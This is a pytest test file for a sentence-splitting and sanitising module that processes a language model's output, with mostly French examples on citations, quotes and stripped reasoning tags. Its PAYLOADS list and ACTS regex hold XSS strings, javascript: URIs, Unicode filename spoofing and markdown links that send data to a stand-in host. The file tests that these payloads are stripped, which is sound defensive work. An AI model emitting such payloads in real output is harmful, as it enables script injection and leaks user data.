"""What a model writes, as plain sentences: split where they end, and nothing left that acts."""

import re
import time

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from lexo.library.asking.said import MAX_SENTENCES, TAKEN_OUT, Stream, sentences_of

ACTS = re.compile(
    r"https?:|//|www\.|javascript:|data:|<|>|\]\(|hx-|onerror|evil\.example|[\u202a-\u202e\x00-\x08]", re.IGNORECASE
)


def texts(text: str) -> list[str]:
    return [sentence.text for sentence in sentences_of(text)]


@pytest.mark.parametrize(
    "whole",
    [
        "D’après M. Dupont, art. 5 du bail, p. 3, le loyer est de 650,00 €.",
        "Le contrat n° 12.450 vaut 1.250,50 EUR.",
        "Il est dit « Le total est de 12 €. À payer avant mars. » dans la lettre.",
        "Vraiment ?",
        "Mme Martin et Dr. House vs. Co. ont signé.",
        "The fee is 3.5 percent, i.e. 12.00 EUR.",
    ],
)
def test_sentence_is_not_cut_inside(whole: str) -> None:
    assert texts(whole) == [whole]


def test_sentences_are_cut_at_their_ends() -> None:
    assert texts("Oui. Le total est 12 €. Et après ?\n- Rien\n- 2) Rien de plus") == [
        "Oui.", "Le total est 12 €.", "Et après ?", "Rien", "2) Rien de plus",
    ]  # fmt: skip


@pytest.mark.parametrize(
    "said",
    [
        "Le total est 12 € [1].",
        "Le total est 12 € [1][2]. Fin.",
        "Le total est 12 €. [1, 2]",
        "Le total [1] est 12 €.",
        "Le total est 12 € [extrait 1].",
        "Le total est 12 € (passage n° 1).",
        "Le total est 12 € [1, page 4].",
    ],
)
def test_passages_that_a_sentence_names_stay_with_it(said: str) -> None:
    first = sentences_of(said)[0]
    assert first.passages[0] == 1
    assert first.text == "Le total est 12 €."


def test_number_in_brackets_is_no_passage() -> None:
    (said,) = sentences_of("Il y en a deux (2) en tout.")
    assert (said.text, said.passages) == ("Il y en a deux (2) en tout.", ())


@pytest.mark.parametrize("quote", ["« Total 12 € »", "“Total 12 €”", '"Total 12 €"', "«Total 12 €»"])
def test_quotes_are_seen_in_each_form(quote: str) -> None:
    assert sentences_of(f"Il dit {quote} [1].")[0].quotes == ("Total 12 €",)


def test_sentence_said_twice_counts_once() -> None:
    assert texts("Le total est 12 €. " * 50) == ["Le total est 12 €."]


def test_thoughts_are_no_part_of_an_answer() -> None:
    assert texts("<think>Hmm. It is 99 €.</think>Le total est 12 €.") == ["Le total est 12 €."]
    assert texts("<think>Hmm. It never ends.") == []


PAYLOADS = [
    "![x](http://evil.example/?d=1234)",
    "[cliquez ici](https://evil.example/a)",
    "[a][1]\n[1]: http://evil.example/?q=secret",
    "<img src=x onerror=alert(1)>",
    "&lt;script&gt;fetch('//evil.example')&lt;/script&gt;",
    '<a hx-get="//evil.example" hx-trigger="load">x</a>',
    "javascript:alert(1)",
    "data:text/html,<b>1</b>",
    "\u202egnp.exe\u202c",
    "a\x00b\x08c",
    "https://evil.example/payer",
    "www.evil.example",
    "<<a>script>alert(1)</script>",
    "![](ht\u200btp://evil.example)",
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_nothing_that_acts_is_left_in_a_sentence(payload: str) -> None:
    for text in texts(f"Voici {payload} la suite."):
        assert not ACTS.search(text), text


@pytest.mark.parametrize("payload", PAYLOADS)
def test_nothing_that_acts_is_left_in_words_that_stream(payload: str) -> None:
    for size in (1, 3, 1000):
        stream, text = Stream(), f"Voici {payload} la suite."
        words = "".join(stream.feed(text[at : at + size]) for at in range(0, len(text), size)) + stream.rest()
        assert not ACTS.search(words), words


def test_sentence_of_which_nothing_is_left_is_named_all_the_same() -> None:
    (said,) = sentences_of("https://evil.example/payer")
    assert (said.text, said.was_changed) == (TAKEN_OUT, True)


@given(st.text(max_size=400))
@settings(max_examples=200, deadline=None)
def test_any_text_is_an_answer(text: str) -> None:
    assert len(sentences_of(text)) <= MAX_SENTENCES
    stream = Stream()
    stream.feed(text)
    stream.rest()


@pytest.mark.parametrize("piece", ["« ", "a. ", "[1] ", '" ', "x", "<think>", "![](", "hx-", "\n", "« a. » "])
def test_ten_million_characters_are_looked_at_in_part(piece: str) -> None:
    begun = time.process_time()
    sentences_of(piece * (10_000_000 // len(piece)))
    assert time.process_time() - begun < 5.0
